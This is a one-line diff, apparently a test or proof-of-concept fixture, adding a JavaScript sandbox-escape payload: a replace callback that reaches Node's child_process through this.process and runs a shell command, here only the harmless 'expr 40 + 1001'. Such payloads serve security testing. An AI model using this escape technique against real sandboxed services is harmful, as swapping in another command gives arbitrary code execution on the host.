@@ -1,0 +1,1 @@
+'a'.replace(/a/,function(){ return this.process.mainModule.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'}) });
